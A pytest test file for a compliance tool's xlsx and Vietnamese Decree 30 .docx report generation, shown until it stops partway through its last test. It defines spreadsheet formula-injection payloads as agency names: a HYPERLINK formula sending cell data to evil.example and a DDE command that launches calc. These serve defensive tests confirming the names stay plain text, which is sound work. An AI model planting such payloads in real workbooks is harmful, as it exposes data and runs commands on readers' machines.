"""Office documents: the xlsx workbooks and the Decree 30 .docx reports of ``check`` and
``audit``, read back as a person's tools would open them (openpyxl, python-docx, and
LibreOffice where installed), and the ``--report-settings`` file."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import docx
import openpyxl
import pytest
from conftest import FOURLAYER, PYTHON, so_header
from docx.shared import Mm
from generate import write_agencies

from fourlayer.model.checklist import load_checklist
from fourlayer.reporting.audit import docx as audit_docx
from fourlayer.reporting.audit import xlsx as audit_xlsx
from fourlayer.reporting.base import ReportOptions
from fourlayer.reporting.check import docx as check_docx
from fourlayer.reporting.check import xlsx as check_xlsx
from fourlayer.reporting.settings import YEARLY_FIELDS, ReportSettings, load_report_settings
from fourlayer.rounds.audit import AuditRun, run_audit
from fourlayer.runner import CheckRun, Settings, run_check

AS_OF = date(2026, 10, 15)
HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-SUM(A1:A9)", "@cmd|' /C calc'!A0")
SETTINGS = ReportSettings(
    issuing_parent="UBND tỉnh Nghệ An",
    issuing_body="Sở Khoa học và Công nghệ",
    symbol="SKHCN",
    number="125",
    superior_body="Ủy ban nhân dân tỉnh Nghệ An",
    place="Nghệ An",
    date=date(2026, 10, 20),
    signer_authority="KT. Giám đốc",
    signer_title="Phó Giám đốc",
    signer_name="Nguyễn Văn An",
    recipients=("UBND tỉnh (để b/c)", "Công an tỉnh (để p/h)"),
    archive="VT, CNTT",
)


def _rename(path: Path, name: str) -> None:
    text = path.read_text(encoding="utf-8")
    start = text.index("  name: ") + len("  name: ")
    end = text.index("\n", start)
    quoted = '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
    path.write_text(text[:start] + quoted + text[end:], encoding="utf-8")


@pytest.fixture(scope="module")
def checklist():
    loaded = load_checklist()
    assert loaded.checklist is not None
    return loaded.checklist


@pytest.fixture(scope="module")
def province(tmp_path_factory) -> Path:
    """60 generated agencies; four of them named like spreadsheet formulas; one broken file."""
    folder = tmp_path_factory.mktemp("province")
    files = write_agencies(folder, 60, seed=14)
    for path, name in zip(files[::15], HOSTILE_NAMES, strict=True):
        _rename(path, name)
    (folder / "broken.yaml").write_text("schema_version: 1\nagency: [\n", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def audit_run(province, checklist) -> AuditRun:
    return run_audit([str(province)], Settings(checklist=checklist, as_of=AS_OF), jobs=1)


@pytest.fixture(scope="module")
def check_run(province, checklist) -> CheckRun:
    """One generated agency with gaps, planned dates and notes (the first such file)."""
    for path in sorted(province.rglob("*.yaml"))[1:]:
        run = run_check([str(path)], Settings(checklist=checklist, as_of=AS_OF))
        if not run.evaluations:
            continue
        results = run.evaluations[0].results
        if (
            any(p.outcome.value == "fail" for p in results)
            and any(p.answer and p.answer.due for p in results)
            and any(p.answer and p.answer.note for p in results)
        ):
            return run
    raise AssertionError("no generated agency has gaps, planned dates and notes")


def workbook(data: bytes, tmp_path: Path, name: str = "book.xlsx") -> openpyxl.Workbook:
    path = tmp_path / name
    path.write_bytes(data)
    return openpyxl.load_workbook(path)


def sheet_rows(sheet) -> list[dict[str, object]]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


# --- xlsx ------------------------------------------------------------------------------
def test_audit_workbook_has_every_sheet_a_row_per_agency_and_numbers_as_numbers(audit_run, tmp_path):
    book = workbook(audit_xlsx.render(audit_run, ReportOptions()), tmp_path)
    assert book.sheetnames == [
        "Tổng hợp",
        "Bốn lớp",
        "Xếp hạng cơ quan",
        "Tiêu chí",
        "Kết quả theo tiêu chí",
        "Tệp lỗi",
        "Nộp báo cáo",
    ]
    agencies = sheet_rows(book["Xếp hạng cơ quan"])
    assert len(agencies) == 60 == len(audit_run.agencies)
    assert {row["Cơ quan"] for row in agencies} == {row.agency.name for row in audit_run.agencies}
    by_source = {row.source: row for row in audit_run.agencies}
    for row in agencies:
        expected = by_source[str(row["Tệp"])]
        assert isinstance(row["Điểm"], int | float) and row["Điểm"] == pytest.approx(expected.score)
        assert isinstance(row["Hạng"], int)
        assert isinstance(row["Ngày tự đánh giá"], datetime) and row["Ngày tự đánh giá"].date() == expected.assessed_on
        assert row["Lớp 1 - điểm"] == pytest.approx(expected.layer(1).score)
    order = ["Tuân thủ", "Tuân thủ một phần", "Không tuân thủ"]
    keys = [(order.index(str(row["Kết luận"])), -float(row["Điểm"])) for row in agencies]  # type: ignore[arg-type]
    assert keys == sorted(keys), "ranked best first: by verdict, then score"
    outcomes = sheet_rows(book["Kết quả theo tiêu chí"])
    assert len(outcomes) == 60 and set(outcomes[0]) >= {"L1.01", "L4.01"}
    assert {v for row in outcomes for k, v in row.items() if k.startswith("L")} <= {
        "Đạt",
        "Đạt một phần",
        "Không đạt",
        "Được miễn trừ",
        "Không áp dụng",
        None,
    }
    controls = {row["Tiêu chí"]: row for row in sheet_rows(book["Tiêu chí"])}
    failing = sum(1 for r in audit_run.agencies if "L1.02" in r.failing_of(audit_run.checklist.ids))
    assert controls["L1.02"]["Số cơ quan không đạt"] == failing
    errors = sheet_rows(book["Tệp lỗi"])
    assert [(Path(str(e["Tệp"])).name, e["Mã"]) for e in errors] == [("broken.yaml", "yaml-syntax")]
    assert isinstance(errors[0]["Dòng"], int)


def test_no_text_from_an_assessment_becomes_a_formula(audit_run, tmp_path):
    book = workbook(audit_xlsx.render(audit_run, ReportOptions()), tmp_path)
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    names = {row["Cơ quan"] for row in sheet_rows(book["Xếp hạng cơ quan"])}
    assert set(HOSTILE_NAMES) <= names, "kept literally, as text"
    with zipfile.ZipFile(audit_xlsx_path(audit_run, tmp_path)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)


def audit_xlsx_path(run: AuditRun, tmp_path: Path) -> Path:
    path = tmp_path / "again.xlsx"
    path.write_bytes(audit_xlsx.render(run, ReportOptions()))
    return path


def test_every_sheet_has_a_frozen_header_a_filter_and_set_widths(audit_run, check_run, tmp_path):
    for data in (audit_xlsx.render(audit_run, ReportOptions()), check_xlsx.render(check_run, ReportOptions())):
        book = workbook(data, tmp_path)
        for sheet in book.worksheets:
            assert sheet.freeze_panes == "A2", sheet.title
            assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), sheet.title
            assert sheet.column_dimensions["A"].width > 5, sheet.title
            # printed on A4 landscape, one page wide, the header repeated on every page
            assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9
            assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth in (
                None,
                1,
            )  # 1: default
            assert int(sheet.page_setup.fitToHeight) == 0  # as many pages down as it takes
            assert sheet.print_title_rows == "$1:$1", sheet.print_title_rows
    results = workbook(check_xlsx.render(check_run, ReportOptions()), tmp_path)["Kết quả chi tiết"]
    guidance = next(c.column_letter for c in results[1] if c.value == "Cần làm")
    checked = 0
    for row in range(2, results.max_row + 1):  # a long wrapped text gets the height to show it whole
        if len(str(results[f"{guidance}{row}"].value or "")) > 200:
            assert results.row_dimensions[row].height >= 45, row
            checked += 1
    assert checked, "the case needs at least one long guidance text"


def test_workbook_headers_follow_the_language(audit_run, check_run, tmp_path):
    book = workbook(audit_xlsx.render(audit_run, ReportOptions(lang="en")), tmp_path)
    assert book.sheetnames == [
        "Summary",
        "Layers",
        "Agencies ranked",
        "Controls",
        "Outcomes by control",
        "Files with errors",
        "Submissions",
    ]
    first = sheet_rows(book["Agencies ranked"])[0]
    assert {"Rank", "Agency", "Score", "Verdict", "Layer 1 status"} <= set(first)
    assert first["Verdict"] in {"Compliant", "Partially compliant", "Non-compliant"}
    check = workbook(check_xlsx.render(check_run, ReportOptions(lang="en")), tmp_path)
    assert check.sheetnames == ["Summary", "Results", "Files with errors"]


def test_a_table_longer_than_excel_allows_stops_the_report(check_run, monkeypatch):
    from fourlayer.errors import UserError
    from fourlayer.reporting.office import xlsx as workbook_module

    monkeypatch.setattr(workbook_module, "MAX_ROWS", 10)
    with pytest.raises(UserError) as stopped:
        check_xlsx.render(check_run, ReportOptions())
    assert stopped.value.key == "office.too-many-rows" and "Kết quả chi tiết" in stopped.value.message("vi")


def test_check_workbook_lists_every_control_and_target(check_run, tmp_path):
    book = workbook(check_xlsx.render(check_run, ReportOptions()), tmp_path)
    (item,) = check_run.evaluations
    results = sheet_rows(book["Kết quả chi tiết"])
    assert len(results) == len(item.results)
    assert [(r["Tiêu chí"], r["Kết quả"]) for r in results] == [
        (
            p.control,
            {
                "pass": "Đạt",
                "partial": "Đạt một phần",
                "fail": "Không đạt",
                "waived": "Được miễn trừ",
                "not_applicable": "Không áp dụng",
            }[p.outcome.value],
        )
        for p in item.results
    ]
    gaps = [r for r in results if r["Kết quả"] == "Không đạt"]
    assert gaps and all(r["Lý do"] and r["Cần làm"] and r["Căn cứ"] for r in gaps)
    assert any(p.answer and p.answer.due for p in item.results) and any(
        p.answer and p.answer.note for p in item.results
    )
    for row, pair in zip(results, item.results, strict=True):  # the officer's own words, dates as dates
        due = pair.answer.due if pair.answer else None
        assert row["Hạn hoàn thành"] == (None if due is None else datetime.combine(due, datetime.min.time()))
        assert row["Ghi chú của cơ quan"] == (pair.answer.note if pair.answer else None)
    summary = sheet_rows(book["Tổng hợp"])
    assert len(summary) == 1 and summary[0]["Điểm"] == pytest.approx(item.score)
    assert isinstance(summary[0]["Ngày đánh giá"], datetime)


def test_both_check_documents_name_each_pair_s_target_alike(check_run, tmp_path):
    (item,) = check_run.evaluations
    systems = {s.id: s for s in item.systems}
    results = sheet_rows(workbook(check_xlsx.render(check_run, ReportOptions(lang="en")), tmp_path)["Results"])
    expected = [
        ("Agency", None, max(s.level for s in item.systems))
        if p.system is None
        else (p.system, systems[p.system].name, systems[p.system].level)
        for p in item.results
    ]
    assert [(r["Target"], r["System name"], r["Level"]) for r in results] == expected
    doc = document(check_docx.render(check_run, ReportOptions(lang="en")), tmp_path)
    gaps = next(table for table in doc.tables if [c.text for c in table.rows[0].cells][2:3] == ["Target"])
    shown = [row.cells[2].text for row in gaps.rows[1:]]
    assert shown == [
        t if n is None else f"{t} ({n})"
        for p, (t, n, _) in zip(item.results, expected, strict=True)
        if p.outcome.value in ("fail", "partial")
    ]
    assert "Agency" in shown and any("(" in cell for cell in shown), "both kinds of target are shown"


def test_both_workbooks_give_each_layer_a_status_and_a_score(audit_run, check_run, tmp_path):
    headers = [f"Layer {n} {what}" for n in (1, 2, 3, 4) for what in ("status", "score")]
    for data, sheet, rows in (
        (check_xlsx.render(check_run, ReportOptions(lang="en")), "Summary", [e.layers for e in check_run.evaluations]),
        (
            audit_xlsx.render(audit_run, ReportOptions(lang="en")),
            "Agencies ranked",
            [row.layers for _, row in audit_run.ranking()],
        ),
    ):
        found = sheet_rows(workbook(data, tmp_path)[sheet])
        assert len(found) == len(rows)
        for row, layers in zip(found, rows, strict=True):
            by_number = {layer.layer: layer for layer in layers}
            assert [row[h] for h in headers] == [
                value
                for n in (1, 2, 3, 4)
                for value in (
                    (None, None)
                    if n not in by_number
                    else (
                        {
                            "met": "Met",
                            "partially_met": "Partially met",
                            "not_met": "Not met",
                            "not_applicable": "Not applicable",
                        }[by_number[n].status.value],
                        None if by_number[n].score is None else pytest.approx(by_number[n].score),
                    )
                )
            ]


def test_the_same_input_gives_the_same_bytes(audit_run, check_run):
    for render, run in ((audit_xlsx.render, audit_run), (check_xlsx.render, check_run)):
        assert render(run, ReportOptions()) == render(run, ReportOptions())
    with_settings = ReportOptions(document=SETTINGS)
    assert audit_docx.render(audit_run, with_settings) == audit_docx.render(audit_run, with_settings)
    data = audit_xlsx.render(audit_run, ReportOptions())
    with zipfile.ZipFile(__import__("io").BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "2026-10-15T00:00:00Z" in core and "fourlayer" in core


# --- docx ------------------------------------------------------------------------------
def document(data: bytes, tmp_path: Path, name: str = "report.docx") -> docx.document.Document:
    path = tmp_path / name
    path.write_bytes(data)
    return docx.Document(str(path))


def all_text(doc) -> str:
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        for row in table.rows:
            parts.extend(cell.text for cell in row.cells)
    return "\n".join(parts)


def assert_decree_30_page(doc) -> None:
    section = doc.sections[0]
    assert abs(section.page_width.mm - 210) < 0.1 and abs(section.page_height.mm - 297) < 0.1  # A4, portrait
    assert Mm(20) <= section.top_margin <= Mm(25) and Mm(20) <= section.bottom_margin <= Mm(25)
    assert Mm(30) <= section.left_margin <= Mm(35) and Mm(15) <= section.right_margin <= Mm(20)
    normal = doc.styles["Normal"]
    assert normal.font.name == "Times New Roman" and 13 <= normal.font.size.pt <= 14
    fonts = {r.font.name for p in doc.paragraphs for r in p.runs}
    fonts |= {
        r.font.name for t in doc.tables for row in t.rows for c in row.cells for p in c.paragraphs for r in p.runs
    }
    assert fonts <= {None, "Times New Roman"}
    styles_xml = doc.styles.element.xml
    assert "Calibri" not in styles_xml and "Theme=" not in styles_xml.replace("w:themeColor", "")


def test_audit_docx_is_a_decree_30_report_listing_every_agency(audit_run, tmp_path):
    doc = document(audit_docx.render(audit_run, ReportOptions(document=SETTINGS)), tmp_path)
    assert_decree_30_page(doc)
    content = all_text(doc)
    for expected in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "BÁO CÁO",
        "Nơi nhận:",
        "Số: 125/BC-SKHCN",
        "Nghệ An, ngày 20 tháng 10 năm 2026",
        "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
        "UBND TỈNH NGHỆ AN",
        "Kính gửi: Ủy ban nhân dân tỉnh Nghệ An.",
        "KT. GIÁM ĐỐC",
        "PHÓ GIÁM ĐỐC",
        "Nguyễn Văn An",
        "- UBND tỉnh (để b/c);",
        "- Lưu: VT, CNTT.",
        "broken.yaml",
    ):
        assert expected in content, expected
    for row in audit_run.agencies:
        assert row.agency.name in content, row.agency.name
    motto = next(r for p in doc.tables[0].rows[0].cells[1].paragraphs for r in p.runs if r.text.startswith("Độc"))
    assert motto.underline and motto.bold
    title = next(p for p in doc.paragraphs if p.text == "BÁO CÁO")
    assert title.runs[0].bold and title.alignment == 1  # centred


def test_blank_fields_are_left_as_dotted_lines(check_run, tmp_path):
    doc = document(check_docx.render(check_run, ReportOptions()), tmp_path)
    content = all_text(doc)
    assert "Số: …………/BC-…………" in content
    assert "…………, ngày …… tháng …… năm ……" in content
    assert "Kính gửi: …………." in content
    (item,) = check_run.evaluations
    assert item.agency.name.upper() in " ".join(content.split()), "the agency issues its own report (even lines)"


def test_check_docx_is_one_agency_s_report_to_its_superior(check_run, tmp_path):
    doc = document(check_docx.render(check_run, ReportOptions(document=SETTINGS)), tmp_path)
    assert_decree_30_page(doc)
    content = all_text(doc)
    (item,) = check_run.evaluations
    for expected in (
        "Độc lập - Tự do - Hạnh phúc",
        "BÁO CÁO",
        "Nơi nhận:",
        item.agency.name,
        "TỒN TẠI, HẠN CHẾ",
        "KẾ HOẠCH KHẮC PHỤC VÀ ĐỀ XUẤT",
    ):
        assert expected in content, expected
    failing = {r.control for r in item.results if r.outcome.value == "fail"}
    assert failing and all(control in content for control in failing)


def test_english_docx_is_a_translation(audit_run, check_run, tmp_path):
    for data in (
        audit_docx.render(audit_run, ReportOptions(lang="en", document=SETTINGS)),
        check_docx.render(check_run, ReportOptions(lang="en", document=SETTINGS)),
    ):
        content = all_text(document(data, tmp_path))
        for expected in (
            "SOCIALIST REPUBLIC OF VIET NAM",
            "Independence - Freedom - Happiness",
            "REPORT",
            "Recipients:",
            "No.: 125/BC-SKHCN",
            "Nghệ An, 20 October 2026",
        ):
            assert expected in content, expected
        assert "Nơi nhận" not in content and "Kính gửi" not in content


def test_text_from_a_file_cannot_break_the_document(checklist, tmp_path):
    folder = tmp_path / "hostile"
    (path,) = write_agencies(folder, 1, seed=3)
    _rename(path, "Sở \\x1b[31mĐỏ\\u202e <w:p/> & =1+1")
    run = run_audit([str(folder)], Settings(checklist=checklist, as_of=AS_OF), jobs=1)
    content = all_text(document(audit_docx.render(run, ReportOptions()), tmp_path))
    assert "Sở \\x1b[31mĐỏ\\u202e <w:p/> & =1+1" in content


def test_both_reports_name_a_broken_file_s_first_problem_in_plain_words(audit_run, province, checklist, tmp_path):
    """III.5 of the audit report and the last part of the check report: the file by its
    name (no folder), its first problem in an official's words and where it is, and
    nothing of the validator's wording or the file's path."""
    from fourlayer.reporting.wording import first_error

    (problems,) = audit_run.errors
    first = first_error(problems)
    assert first is not None and first.line is not None
    expected = f"- Tệp broken.yaml: không đọc được: tệp sai cấu trúc, không đọc được nội dung tại dòng {first.line}."
    check = run_check(
        [problems.source, *map(str, sorted(province.rglob("0*.yaml"))[:1])], Settings(checklist=checklist, as_of=AS_OF)
    )
    for data in (audit_docx.render(audit_run, ReportOptions()), check_docx.render(check, ReportOptions())):
        content = all_text(document(data, tmp_path))
        assert expected in content.splitlines()
        assert str(province) not in content and "YAML" not in content


# --- the settings file -------------------------------------------------------------------
def test_settings_from_yaml_and_toml_agree(tmp_path):
    yaml_file = tmp_path / "bao-cao.yaml"
    yaml_file.write_text(
        'issuing_body: "Sở Khoa học và Công nghệ"\nsymbol: SKHCN\nnumber: 125\nplace: "Nghệ An"\n'
        "date: 2026-10-20\nrecipients:\n  - UBND tỉnh\n  - Công an tỉnh\n",
        encoding="utf-8",
    )
    toml_file = tmp_path / "bao-cao.toml"
    toml_file.write_text(
        'issuing_body = "Sở Khoa học và Công nghệ"\nsymbol = "SKHCN"\nnumber = 125\nplace = "Nghệ An"\n'
        'date = 2026-10-20\nrecipients = ["UBND tỉnh", "Công an tỉnh"]\n',
        encoding="utf-8",
    )
    loaded = [load_report_settings(str(f)) for f in (yaml_file, toml_file)]
    assert [item.findings for item in loaded] == [(), ()]
    assert (
        loaded[0].settings
        == loaded[1].settings
        == ReportSettings(
            issuing_body="Sở Khoa học và Công nghệ",
            symbol="SKHCN",
            number="125",
            place="Nghệ An",
            date=date(2026, 10, 20),
            recipients=("UBND tỉnh", "Công an tỉnh"),
        )
    )
    merged = loaded[0].settings.merged(place="Hà Tĩnh", signer_name=None, recipients=())
    assert merged.place == "Hà Tĩnh" and merged.recipients == ("UBND tỉnh", "Công an tỉnh")


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("typo.yaml", "issuing_body: X\nsigner_nmae: Y\n", [(2, 1, "settings-unknown-key")]),
        ("date.yaml", "place: X\ndate: 31/09/2026\n", [(2, 7, "settings-bad-date")]),
        ("list.yaml", "recipients: {a: 1}\n", [(1, 13, "settings-not-list")]),
        ("text.yaml", "number: [1, 2]\nplace: true\n", [(1, 9, "settings-not-text"), (2, 8, "settings-not-text")]),
        ("syntax.yaml", "place: [\n", None),
        ("typo.toml", 'place = "X"\nsigner_nmae = "Y"\n', [(2, 1, "settings-unknown-key")]),
        ("syntax.toml", 'place = "X\n', [(1, None, "settings-syntax")]),
        ("date.toml", 'date = "hôm nay"\n', [(1, 1, "settings-bad-date")]),
    ],
)
def test_settings_file_errors_are_located(tmp_path, name, text, expected):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    loaded = load_report_settings(str(path))
    assert loaded.settings is None and loaded.findings
    if expected is not None:
        got = [
            (f.line, f.column if expected[i][1] is not None else None, f.code) for i, f in enumerate(loaded.findings)
        ]
        assert got == expected
    assert all(f.path == str(path) and f.line is not None for f in loaded.findings)
    assert all(f.message("vi") and f.message("en") for f in loaded.findings)


def test_unknown_setting_suggests_the_right_one(tmp_path):
    path = tmp_path / "s.yaml"
    path.write_text("signer_nmae: Y\n", encoding="utf-8")
    (problem,) = load_report_settings(str(path)).findings
    assert problem.hint("vi") == 'Có phải ý là "signer_name"?'


# --- LibreOffice: the files open in the office suite users have ------------------------------
def soffice() -> str:
    found = shutil.which("soffice")
    if found is None:
        if os.environ.get("CI") == "true":
            pytest.fail("soffice (LibreOffice) is required on CI: install libreoffice-writer-nogui/-calc-nogui")
        pytest.skip("soffice (LibreOffice) is not installed")
    return found


def convert(program: str, files: list[Path], target: str, out: Path, profile: Path) -> None:
    subprocess.run(
        [
            program,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(out),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )


def test_libreoffice_reads_the_audit_workbook(audit_run, tmp_path):
    program = soffice()
    path = tmp_path / "ra-soat.xlsx"
    path.write_bytes(audit_xlsx.render(audit_run, ReportOptions()))
    # UTF-8 CSV of the third sheet (agencies ranked): separator, quote, charset, first line, …, sheet
    convert(
        program,
        [path],
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3",
        tmp_path / "out",
        tmp_path / "profile",
    )
    (csv_file,) = (tmp_path / "out").glob("*.csv")
    import csv

    rows = list(csv.DictReader(csv_file.read_text(encoding="utf-8").splitlines()))
    assert len(rows) == 60
    assert {r["Cơ quan"] for r in rows} == {r.agency.name for r in audit_run.agencies}
    hyperlink = next(r for r in rows if r["Cơ quan"].startswith("=HYPERLINK"))
    assert hyperlink["Cơ quan"] == HOSTILE_NAMES[0], "shown as typed, not run"
    assert all(float(r["Điểm"]) >= 0 for r in rows)


# --- through the command line ---------------------------------------------------------------
@pytest.fixture(scope="module")
def settings_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("settings") / "bao-cao.toml"
    path.write_text(
        'issuing_body = "Sở Khoa học và Công nghệ"\nsymbol = "SKHCN"\nplace = "Nghệ An"\n'
        'date = 2026-10-20\nsigner_title = "Giám đốc"\nsigner_name = "Lê Thị C"\n',
        encoding="utf-8",
    )
    return path


def test_audit_xlsx_through_the_cli_is_byte_identical_run_after_run(province, tmp_path):
    from conftest import run_cli

    written = [tmp_path / "a.xlsx", tmp_path / "b.xlsx"]
    for path in written:
        result = run_cli(
            ["audit", province, "--as-of", AS_OF.isoformat(), "--format", "xlsx", "-o", path, "--jobs", "2"]
        )
        assert result.exit_code == 1, result.stderr  # a broken file and non-compliant agencies
        assert result.stdout_bytes == b""
    assert written[0].read_bytes() == written[1].read_bytes()
    book = openpyxl.load_workbook(written[0])
    agencies = sheet_rows(book["Xếp hạng cơ quan"])
    assert len(agencies) == 60 and all(isinstance(row["Điểm"], int | float) for row in agencies)
    assert HOSTILE_NAMES[0] in {row["Cơ quan"] for row in agencies}
    assert not [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert book["Xếp hạng cơ quan"].freeze_panes == "A2" and book["Xếp hạng cơ quan"].auto_filter.ref


def test_docx_through_the_cli_takes_the_settings_file_and_options(province, audit_run, settings_file, tmp_path):
    from conftest import run_cli

    audit_file, check_file = tmp_path / "ra-soat.docx", tmp_path / "tu-danh-gia.docx"
    result = run_cli(
        [
            "audit",
            province,
            "--as-of",
            AS_OF.isoformat(),
            "--format",
            "docx",
            "-o",
            audit_file,
            "--report-settings",
            settings_file,
            "--signer-name",
            "Phạm Văn D",
            "--recipient",
            "UBND tỉnh",
            "--recipient",
            "Công an tỉnh",
            "--superior-body",
            "Ủy ban nhân dân tỉnh Nghệ An",
        ]
    )
    assert result.exit_code == 1, result.stderr
    doc = docx.Document(str(audit_file))
    assert_decree_30_page(doc)
    content = all_text(doc)
    for expected in (
        "Độc lập - Tự do - Hạnh phúc",
        "BÁO CÁO",
        "Nơi nhận:",
        "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
        "Nghệ An, ngày 20 tháng 10 năm 2026",
        "Phạm Văn D",
        "- UBND tỉnh;",
        "- Công an tỉnh;",
        "Kính gửi: Ủy ban nhân dân tỉnh Nghệ An.",
    ):
        assert expected in content, expected
    assert "Lê Thị C" not in content, "an option wins over the file"
    missing = [row.agency.name for row in audit_run.agencies if row.agency.name not in content]
    assert len(audit_run.agencies) == 60 and missing == []
    one = sorted(province.rglob("0*.yaml"))[1]
    result = run_cli(["check", one, "--as-of", AS_OF.isoformat(), "--format", "docx", "-o", check_file, "--lang", "en"])
    assert result.exit_code in (0, 1), result.stderr
    content = all_text(docx.Document(str(check_file)))
    assert "SOCIALIST REPUBLIC OF VIET NAM" in content and "Recipients:" in content and "REPORT" in content


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        (["--format", "json", "--place", "Nghệ An"], "chỉ dùng với --format docx: thêm --format docx -o"),
        (["--format", "docx", "-o", "{tmp}/x.docx", "--report-settings", "{tmp}/bad.yaml"], "bad.yaml:2:1"),
        (["--format", "docx", "-o", "{tmp}/x.docx", "--report-settings", "{tmp}/missing.yaml"], "missing.yaml"),
    ],
)
def test_report_settings_problems_stop_the_command_before_writing(province, tmp_path, extra, expected):
    from conftest import run_cli

    (tmp_path / "bad.yaml").write_text("place: Nghệ An\nsigner: X\n", encoding="utf-8")
    one = sorted(province.rglob("0*.yaml"))[0]
    args = [a.replace("{tmp}", str(tmp_path)) for a in extra]
    result = run_cli(["check", one, "--as-of", AS_OF.isoformat(), *args])
    assert result.exit_code == 2 and expected in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not (tmp_path / "x.docx").exists()


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_a_binary_format_on_a_terminal_is_refused_before_any_work(province, fmt):
    import pty

    leader, follower = pty.openpty()
    try:
        done = subprocess.run(
            [*FOURLAYER, "audit", str(province), "--format", fmt],
            stdout=follower,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
            check=False,
            env={**os.environ, "FOURLAYER_LANG": "vi"},
        )
    finally:
        os.close(follower)
        os.close(leader)
    assert done.returncode == 2
    assert "không hiển thị được trên màn hình" in done.stderr and "-o" in done.stderr
    assert "Traceback" not in done.stderr


# --- writing bytes ---------------------------------------------------------------------------
def _write_bytes_with_stdout(stdout) -> subprocess.CompletedProcess[str]:
    code = (
        "import sys\nfrom fourlayer.errors import UserError\nfrom fourlayer.reporting.output import write_report\n"
        "try:\n    write_report(b'PK\\x03\\x04 binary', None)\n"
        "except UserError as error:\n    sys.stderr.write(error.key)\n    sys.exit(2)\n"
    )

    return subprocess.run(
        [*PYTHON, "-c", code], stdout=stdout, stderr=subprocess.PIPE, text=True, timeout=60, check=False
    )


def test_bytes_are_never_written_to_a_terminal():
    import pty

    leader, follower = pty.openpty()
    try:
        done = _write_bytes_with_stdout(follower)
    finally:
        os.close(follower)
        os.close(leader)
    assert (done.returncode, done.stderr) == (2, "output.binary-to-terminal")
    redirected = _write_bytes_with_stdout(subprocess.PIPE)
    assert redirected.returncode == 0 and redirected.stdout == "PK\x03\x04 binary"


def test_bytes_are_written_atomically_and_never_over_an_input(tmp_path):
    from fourlayer.errors import UserError
    from fourlayer.reporting.output import write_report

    target = tmp_path / "bao-cao.xlsx"
    target.write_bytes(b"old")
    write_report(b"PK\x03\x04new", str(target), [])
    assert target.read_bytes() == b"PK\x03\x04new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bao-cao.xlsx"], "no temporary file left"
    source = tmp_path / "agency.yaml"
    source.write_text("x: 1\n", encoding="utf-8")
    with pytest.raises(UserError) as refused:
        write_report(b"PK", str(source), [str(source)])
    assert refused.value.key == "output.is-input" and source.read_text(encoding="utf-8") == "x: 1\n"


def test_the_settings_files_in_the_docs_are_valid(tmp_path):
    import re

    page = (Path(__file__).parent.parent / "docs" / "reports.md").read_text(encoding="utf-8")
    loaded = {}
    for language in ("yaml", "toml"):
        for index, block in enumerate(re.findall(rf"```{language}\n(.*?)```", page, flags=re.S)):
            path = tmp_path / f"bao-cao-{index}.{language}"
            path.write_text(block, encoding="utf-8")
            result = load_report_settings(str(path))
            assert result.findings == () and result.settings is not None, block
            loaded[(language, index)] = result.settings
    assert loaded[("yaml", 0)].issuing_body == "Sở Khoa học và Công nghệ"
    assert loaded[("yaml", 0)].date == date(2026, 10, 20)
    assert [(s.issuing_body, s.date) for k, s in loaded.items() if k[0] == "toml"] == [
        ("Sở Y tế", date(2026, 12, 15)),
        ("Ủy ban nhân dân xã Kỳ Anh", date(2026, 12, 15)),
    ]
    assert (Path(__file__).parent.parent / "docs" / "images" / "audit-docx-first-page.png").read_bytes()[
        :4
    ] == b"\x89PNG"


def test_the_commands_in_the_docs_make_the_header_they_promise(tmp_path):
    """The Vietnamese section's commands for a Sở and a xã, run as written (the workbook
    replaced by the bundled example)."""
    import re
    import shlex

    from conftest import ROOT, run_cli

    page = (ROOT / "docs" / "reports.md").read_text(encoding="utf-8")
    commands = [
        block.replace("\\\n", " ")
        for block in re.findall(r"```sh\n(.*?)```", page, flags=re.S)
        if "--signer-authority" in block
    ]
    assert len(commands) == 2
    expected = [
        ("UBND TỈNH HÀ TĨNH", "SỞ Y TẾ", "Số: …………/BC-SYT", "KT. GIÁM ĐỐC"),
        ("ỦY BAN NHÂN DÂN XÃ KỲ ANH", None, "Số: …………/BC-UBND", "TM. ỦY BAN NHÂN DÂN"),
    ]
    for command, (first, second, number, authority) in zip(commands, expected, strict=True):
        args = shlex.split(command)[1:]
        args[args.index("tu-danh-gia.xlsx")] = str(ROOT / "examples" / "so-y-te-nghe-an.yaml")
        args[args.index("bao-cao.docx")] = str(tmp_path / "bao-cao.docx")
        result = run_cli([*args, "--as-of", AS_OF.isoformat()])
        assert result.exit_code in (0, 1), result.stderr
        doc = docx.Document(str(tmp_path / "bao-cao.docx"))
        left = [p.text for p in doc.tables[0].rows[0].cells[0].paragraphs if p.text]
